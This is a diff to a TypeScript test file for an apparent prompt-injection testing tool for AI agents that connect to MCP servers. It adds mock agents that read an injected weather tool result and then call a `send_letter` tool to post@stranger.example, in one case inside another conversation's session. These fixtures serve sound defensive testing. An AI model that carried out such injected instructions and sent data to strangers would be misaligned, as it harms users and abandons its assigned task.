@@ -6,28 +6,57 @@ import { freePort, listenForTest } from '../../../io/test/loopback.ts'
 import { SERVER, USER } from '../run/documents.ts'
 import { folder, joust } from '../world.ts'
 
+/** A connection to an MCP server, with the weather already asked for. */
+async function connect(mcp: string, passed: Record<string, string>) {
+  const connection = { session: '', weather: '' }
+  const call = async (method: string, params: object, session = connection.session) => {
+    const type = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' }
+    const named = session === '' ? {} : { 'mcp-session-id': session }
+    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })
+    const answer = await fetch(mcp, { method: 'POST', headers: { ...type, ...passed, ...named }, body })
+    connection.session = answer.headers.get('mcp-session-id') ?? connection.session
+    return answer.text()
+  }
+  const clientInfo = { name: 'a', version: '1' }
+  await call('initialize', { protocolVersion: '2025-11-25', capabilities: {}, clientInfo })
+  await call('tools/list', {})
+  connection.weather = await call('tools/call', { name: 'get_weather', arguments: { town: 'Oslo' } })
+  const send = (to: string, session?: string) =>
+    call('tools/call', { name: 'send_letter', arguments: { to, text: 'notes' } }, session)
+  return { connection, send }
+}
+
 /** An agent that uses the server in its configuration, and does what it is told there. */
 async function agentWith(mcp: string, header?: string): Promise<string> {
   const server = createServer(async (request, response) => {
-    const passed = header === undefined ? {} : { [header]: String(request.headers[header]) }
-    let session = {}
-    const call = async (method: string, params: object) => {
-      const type = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' }
-      const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })
-      const answer = await fetch(mcp, { method: 'POST', headers: { ...type, ...passed, ...session }, body })
-      const id = answer.headers.get('mcp-session-id')
-      if (id !== null) session = { 'mcp-session-id': id }
-      return answer.text()
-    }
     await json(request)
-    await call('initialize', {
-      protocolVersion: '2025-11-25',
-      capabilities: {},
-      clientInfo: { name: 'a', version: '1' },
-    })
-    await call('tools/list', {})
-    await call('tools/call', { name: 'get_weather', arguments: { town: 'Oslo' } })
-    await call('tools/call', { name: 'send_letter', arguments: { to: 'post@stranger.example', text: 'notes' } })
+    const { send } = await connect(mcp, header === undefined ? {} : { [header]: String(request.headers[header]) })
+    await send('post@stranger.example')
+    response.end('The weather is fine.')
+  })
+  return `${await listenForTest(server)}/chat`
+}
+
+/** An agent with two conversations at once that writes to the stranger of one in the session of the other. */
+async function agentWithPool(mcp: string, header: string): Promise<string> {
+  const sessions = new Map<string, string>()
+  let meet = () => {}
+  let part = () => {}
+  const met = new Promise<void>((resolve) => {
+    meet = resolve
+  })
+  const parted = new Promise<void>((resolve) => {
+    part = resolve
+  })
+  const server = createServer(async (request, response) => {
+    await json(request)
+    const { connection, send } = await connect(mcp, { [header]: String(request.headers[header]) })
+    const who = connection.weather.includes('stranger.example') ? 'obeys' : 'resists'
+    sessions.set(who, connection.session)
+    if (sessions.size === 2) meet()
+    await met
+    if (who === 'obeys') await send('post@stranger.example', sessions.get('resists')).finally(part)
+    await parted
     response.end('The weather is fine.')
   })
   return `${await listenForTest(server)}/chat`
@@ -52,6 +81,24 @@ test.each([
   const trials = target.attacks.flatMap((attack: { trials: object[] }) => attack.trials)
   expect(trials).toMatchObject(Array(4).fill({ outcome: 'exploited', answer: 'The weather is fine.', diagnostics: [] }))
   expect(code).toBe(3)
+})
+
+test('an agent that obeys one attack in the MCP session of another has resisted only the other', async () => {
+  const port = await freePort()
+  const url = await agentWithPool(`http://127.0.0.1:${port}/mcp/1`, 'x-thread')
+  const target = `http: { url: "${url}" }, gateway: 127.0.0.1:${port}, gateway_header: x-thread`
+  const cwd = folder({
+    'a.oatf.yaml': SERVER,
+    'b.oatf.yaml': SERVER.replace('TEST-001', 'TEST-011').replaceAll('stranger.example', 'friend.example'),
+    'joust.yaml': `targets: { desk: { ${target} } }\n`,
+  })
+  const { code, stdout } = await joust(['run', '.', ...quick], { cwd })
+  const [{ attacks }] = JSON.parse(stdout).targets
+  expect(attacks).toMatchObject([
+    { outcome: 'inconclusive', reasons: [expect.stringContaining('in the MCP session of another')] },
+    { outcome: 'resisted' },
+  ])
+  expect(code).toBe(5)
 })
 
 test('a dry run shows the slots', async () => {
